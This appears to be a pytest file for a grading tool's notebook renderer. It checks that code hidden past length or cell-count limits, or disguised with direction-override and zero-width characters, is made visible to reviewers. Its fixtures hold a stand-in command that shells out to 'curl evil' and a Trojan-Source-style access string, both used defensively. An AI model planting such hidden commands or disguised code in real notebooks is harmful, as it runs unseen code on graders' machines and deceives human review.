"""Code that runs at grading is shown to the reviewer, all of it (issue 11, item 3).

Before: a cell's source was cut at 20,000 characters and only the first 2,000
cells were drawn, silently, so code placed past either ran unseen. Now every
cell and every character of source is on some page of the notebook view;
pages say which cells they hold; what is cut (outputs only) says so.
"""

from __future__ import annotations

import html
import re

import pytest

from worksample.grading import render

pytestmark = [pytest.mark.timeout(60)]

HIDDEN = "import os; os.system('curl evil')  # HIDDEN-{}"


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "source": source, "outputs": [], "execution_count": 1, "metadata": {}}


def all_pages(nb: dict) -> list[str]:
    """Every page of the notebook view, following the page links from page 1."""
    first = render.notebook_html(nb)
    count = max([int(n) for n in re.findall(r'href="\?page=(\d+)"', first)] + [1])
    return [first] + [render.notebook_html(nb, page=n) for n in range(2, count + 1)]


def test_code_after_20000_characters_and_in_cell_2001_is_shown():
    padding = "x = 1\n" * 5_000  # 30,000 characters before the payload
    cells = [code_cell(padding + HIDDEN.format("long-cell"))]
    cells += [code_cell(f"y = {i}") for i in range(2_050)]
    cells[2_000] = code_cell(HIDDEN.format("cell-2001"))
    cells.append(code_cell(HIDDEN.format("last-cell")))
    pages = all_pages({"cells": cells})
    text = html.unescape("".join(pages))
    for where in ("long-cell", "cell-2001", "last-cell"):
        assert HIDDEN.format(where) in text, f"{where}: code that runs is not shown"
    assert len(pages) > 1 and all(len(page) < 4 * 1024**2 for page in pages)
    assert "Cells 1–" in pages[0] and f"of {len(cells)}" in pages[0]  # the reviewer sees there is more
    assert "cell 2001" in text and "[… cut" not in text


def test_one_huge_cell_is_shown_whole_on_its_own_page():
    payload = "a = 0\n" * 400_000 + HIDDEN.format("end")  # 2.4 M characters, over a page's budget
    pages = all_pages({"cells": [code_cell("print(1)"), code_cell(payload), code_cell("print(2)")]})
    assert any(HIDDEN.format("end") in html.unescape(page) for page in pages)


def test_direction_overrides_and_invisible_characters_are_made_visible():
    trojan = 'access = "user\u202e \u2066# admin only\u2069 \u2066"  # \u200bzero'
    page = render.notebook_html({"cells": [code_cell(trojan)]})
    for mark in ("U+202E", "U+2066", "U+2069", "U+200B"):
        assert f"[{mark}]" in page
    assert "\u202e" not in page and "\u200b" not in page


def test_cut_outputs_and_odd_cells_are_marked_not_dropped():
    big = {"output_type": "stream", "name": "stdout", "text": "z" * 50_000}
    cells = [dict(code_cell("print('z' * 50000)"), outputs=[big] * 250),
             {"cell_type": "raw", "source": HIDDEN.format("raw")},
             {"cell_type": "weird", "source": HIDDEN.format("weird")}]
    page = html.unescape(render.notebook_html({"cells": cells}))
    assert "[30,000 more characters of this output not shown]" in page
    assert "[50 more outputs of this cell not shown]" in page
    assert HIDDEN.format("raw") in page and HIDDEN.format("weird") in page
